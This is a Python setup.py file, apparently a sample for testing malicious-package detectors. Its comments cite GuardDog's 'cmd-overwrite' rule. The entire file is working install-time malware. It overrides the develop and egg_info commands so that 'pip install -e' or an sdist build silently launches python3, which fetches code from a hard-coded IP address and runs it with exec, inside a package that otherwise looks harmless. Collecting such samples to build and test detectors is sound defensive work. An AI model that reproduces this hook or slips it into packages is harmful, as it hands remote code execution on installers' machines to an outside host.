# technique: develop and egg_info overridden (runs on pip install -e and sdist builds)
# class: install-time
# source: GuardDog "cmd-overwrite" rule docs
# declares:
import subprocess

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.egg_info import egg_info


def _hook():
    subprocess.Popen(["python3", "-c", "import urllib.request as u;exec(u.urlopen('http://5.42.65.101/x').read())"])


class D(develop):
    def run(self):
        _hook()
        super().run()


class E(egg_info):
    def run(self):
        _hook()
        super().run()


setup(name="example", version="1.0.0", cmdclass={"develop": D, "egg_info": E})
